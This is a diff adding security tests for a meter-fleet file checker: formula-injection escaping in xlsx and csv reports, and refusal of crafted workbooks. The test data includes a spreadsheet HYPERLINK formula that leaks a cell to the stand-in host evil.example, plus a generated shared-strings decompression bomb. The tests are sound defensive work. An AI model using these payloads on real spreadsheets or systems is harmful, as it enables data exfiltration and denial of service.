@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import zipfile
 from pathlib import Path
 
 import asyncpg
@@ -215,3 +216,83 @@ async def test_an_unreadable_file_is_refused_without_the_servers_paths(
         await check_file(context_for(pool, SUPPLIER), source, tmp_path / "r.csv")
     assert str(refused.value).startswith("not a readable fleet file: ")
     assert "'meters.parquet'" in str(refused.value) and str(tmp_path) not in str(refused.value)
+
+
+@pytest.mark.parametrize("out", ["xlsx", "csv"])
+async def test_text_in_a_report_never_runs_as_a_formula(
+    pool: asyncpg.Pool, model: None, tmp_path: Path, out: str
+) -> None:
+    """A manufacturer's contact name and a ref from the supplier's own file reach the report as text:
+    a string cell in xlsx, behind an apostrophe (every field quoted) in csv."""
+    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for firmware")'
+    await pool.execute("update contacts set name = $1 where manufacturer_id = '106C'", evil)
+    rows = [["=2+5", "106C", "4331", "00AC", "00000001"], ["@SUM(1)", "106C", "4331", "00AC", "00000003"]]
+    target = tmp_path / f"report.{out}"
+    await check_file(context_for(pool, SUPPLIER), write_csv(tmp_path / "meters.csv", rows), target)
+    if out == "xlsx":
+        book = openpyxl.load_workbook(target)
+        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == []
+        assert {c.value for c in cells} >= {"=2+5", "@SUM(1)"}
+        assert any(isinstance(c.value, str) and c.value.startswith(evil) for c in cells)
+        return
+    devices = target.read_text(encoding="utf-8")
+    assert '"\'=2+5"' in devices and '"\'@SUM(1)"' in devices
+    makers = target.with_name("report.manufacturers.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK(" in makers and ',"=HYPERLINK' not in makers
+
+
+def crafted_xlsx(path: Path, sheet_xml: str | None = None, strings: bytes | None = None) -> Path:
+    """A real workbook with its sheet XML or shared strings replaced, as an attacker would upload it."""
+    book = openpyxl.Workbook()
+    book.active.append(HEADER)
+    book.active.append(ROWS[0])
+    book.save(path)
+    with zipfile.ZipFile(path) as original:
+        members = {name: original.read(name) for name in original.namelist()}
+    if sheet_xml is not None:
+        members["xl/worksheets/sheet1.xml"] = sheet_xml.encode()
+    if strings is not None:
+        members["xl/sharedStrings.xml"] = strings
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as crafted:
+        for name, data in members.items():
+            crafted.writestr(name, data)
+    return path
+
+
+SHEET = (
+    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+    '<dimension ref="{dimension}"/><sheetData>'
+    '<row r="1"><c r="A1" t="inlineStr"><is><t>ref</t></is></c><c r="B1" t="inlineStr"><is><t>manufacturer_id</t></is></c>'
+    '<c r="C1" t="inlineStr"><is><t>model_id</t></is></c><c r="D1" t="inlineStr"><is><t>hardware_version</t></is></c>'
+    '<c r="E1" t="inlineStr"><is><t>firmware_version</t></is></c></row>{rows}</sheetData></worksheet>'
+)
+
+
+async def test_a_crafted_workbook_is_read_within_bounds(
+    pool: asyncpg.Pool, model: None, tmp_path: Path
+) -> None:
+    """A declared width of 16,384 columns is not padded out; a row numbered past what a sheet holds is
+    refused; a shared-strings bomb is refused before openpyxl loads it."""
+    wide = SHEET.format(dimension="A1:XFD2000", rows="")
+    source = crafted_xlsx(tmp_path / "wide.xlsx", wide)
+    done = await check_file(context_for(pool, SUPPLIER), source, tmp_path / "r.csv")
+    assert done.report.summary()["total"] == 0
+    assert max(len(line) for line in (tmp_path / "r.csv").read_text().splitlines()) < 400
+    far = SHEET.format(
+        dimension="A1:E2", rows='<row r="2000000"><c r="A2000000" t="inlineStr"><is><t>x</t></is></c></row>'
+    )
+    with pytest.raises(FleetFileError, match="more than 1,048,576 rows"):
+        await check_file(
+            context_for(pool, SUPPLIER), crafted_xlsx(tmp_path / "far.xlsx", far), tmp_path / "r.csv"
+        )
+    bomb = (
+        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        + b"<si><t>a</t></si>" * 1_000_000
+    )
+    with pytest.raises(FleetFileError, match="compressed over 200 times"):
+        await check_file(
+            context_for(pool, SUPPLIER),
+            crafted_xlsx(tmp_path / "bomb.xlsx", strings=bomb),
+            tmp_path / "r.csv",
+        )
